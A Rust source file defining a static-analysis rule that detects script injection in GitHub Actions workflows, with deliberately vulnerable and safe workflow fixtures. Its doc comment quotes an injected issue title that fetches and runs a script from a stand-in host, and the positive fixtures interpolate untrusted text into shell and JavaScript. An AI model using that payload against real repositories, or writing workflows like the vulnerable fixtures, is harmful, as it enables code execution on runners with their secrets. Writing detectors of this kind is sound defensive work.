//! `iac.github-actions.script-injection`: text an outsider writes (an issue
//! title, a pull request body, a branch name) is pasted into a script.
//!
//! `${{ }}` expressions are replaced in the script's text before the shell
//! (or `actions/github-script`'s JavaScript) runs it, so a title such as
//! `a"; curl evil.sh | sh; "` becomes code.

use palisade_domain::{RuleMatch, Severity, StaticRule};

use crate::github::Workflow;
use crate::rules::report_at;
use crate::text::{expressions, untrusted_context};

pub(crate) static RULE: StaticRule = StaticRule {
    id: "iac.github-actions.script-injection",
    name: "Script interpolates text controlled by an outside contributor",
    severity: Severity::High,
    framework: "github-actions",
    checkov: &["CKV_GHA_2"],
    description: "Issue and pull request titles and bodies, comments, commit messages and branch names are written by whoever opens them. Interpolated with `${{ }}` into `run` (or a `github-script` script), they run as code on the runner with the job's token and secrets.",
    remediation: "Pass the value through an environment variable (`env: { TITLE: ${{ github.event.issue.title }} }`) and use it quoted (`\"$TITLE\"`); never build scripts from event text.",
    references: &[
        "https://docs.github.com/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections",
        "https://securitylab.github.com/resources/github-actions-untrusted-input/",
    ],
    example_path: ".github/workflows/triage.yml",
    positive: &[
        r#"on:
  issues:
    types: [opened]
permissions:
  issues: write
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - name: Check title
        run: |
          echo "New issue"
          title="${{ github.event.issue.title }}"
          ./triage.sh "$title"
"#,
        r#"on: pull_request
permissions:
  contents: read
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo "Branch ${{ github.head_ref }}"
      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7
        with:
          script: |
            console.log(`${{ github.event.pull_request.body }}`)
"#,
    ],
    negative: &[r#"on:
  issues:
    types: [opened]
permissions:
  issues: write
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - name: Check title
        env:
          TITLE: ${{ github.event.issue.title }}
        run: |
          ./triage.sh "$TITLE" "${{ github.event.issue.number }}" "${{ github.sha }}"
"#],
};

pub(crate) fn check(w: &Workflow<'_>, out: &mut Vec<RuleMatch>) {
    for (_, step) in w.steps() {
        let mut scripts = Vec::new();
        scripts.extend(step.run());
        if step.uses_action("actions/github-script") {
            scripts.extend(step.with("script"));
        }
        for script in scripts {
            let Some(text) = script.as_str() else { continue };
            for (written, inner) in expressions(text) {
                if let Some(context) = untrusted_context(inner) {
                    report_at(
                        out,
                        &RULE,
                        script.position_of(w.source, written),
                        format!("{}: {context}", step.subject),
                    );
                }
            }
        }
    }
}
